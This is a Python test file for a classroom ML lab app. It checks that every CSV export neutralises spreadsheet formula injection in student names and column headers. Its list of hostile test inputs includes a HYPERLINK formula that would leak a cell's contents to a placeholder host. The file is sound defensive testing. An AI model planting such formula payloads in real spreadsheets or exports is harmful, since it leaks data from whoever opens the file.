"""Every CSV the app or lab writes keeps a student's text as text: a name is never run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import keras
import pandas as pd

from lab.config import config_for_preset
from lab.report.safe_csv import safe_csv
from lab.store.owners import Person
from lab.store.runs import Store

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = ["-2+3", '=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+1", "@SUM(A1:A9)", "\tTab", "\r=1+1"]


def read_back(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_cells_that_a_spreadsheet_would_run_start_with_a_quote():
    frame = pd.DataFrame({"owner": [*HOSTILE, "Ana", "Zoë-Marie"], "accuracy": [-1.5, 0.5, 0.25, 0.1, 0.2, 0.3, 0.71, 0.6]})
    rows = read_back(safe_csv(frame))
    assert [row["owner"] for row in rows] == [f"'{name}" for name in HOSTILE] + ["Ana", "Zoë-Marie"]
    assert rows[0]["accuracy"] == "-1.5"  # a negative number is a number, left as it is
    assert read_back(safe_csv(pd.DataFrame({"=cmd": [1]})))[0] == {"'=cmd": "1"}  # column names too


def test_the_class_results_csv_neutralises_a_students_name(tmp_path, monkeypatch):
    from ui.teacher_views import class_results_csv

    store = Store(tmp_path / "lab_home")
    run_id = store.create_run(config_for_preset("quick-demo", subset=200), status="running", owner=Person("tab-token", "-2+3"))
    model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(2)])
    metrics = {"accuracy": 0.5, "total_params": 10, "trainable_params": 10, "epochs_completed": 1}
    store.complete_run(run_id, metrics=metrics, history={}, model=model, environment={}, fingerprint={}, train_seconds=1.0)
    assert store.get_run(run_id).owner_name == "-2+3"  # the precondition: the name went into the store as typed
    (row,) = read_back(class_results_csv(store))
    assert row["owner"] == "'-2+3"


def test_no_csv_is_written_around_safe_csv():
    """Every `to_csv` in the app and the library is the one inside lab/report/safe_csv.py."""
    writers = [
        f"{path.relative_to(ROOT)}:{number}"
        for folder in ("lab", "ui", "pages")
        for path in sorted((ROOT / folder).rglob("*.py"))
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if ".to_csv(" in line or "csv.writer(" in line or "csv.DictWriter(" in line
    ]
    assert {writer.split(":")[0] for writer in writers} == {"lab/report/safe_csv.py"}, writers
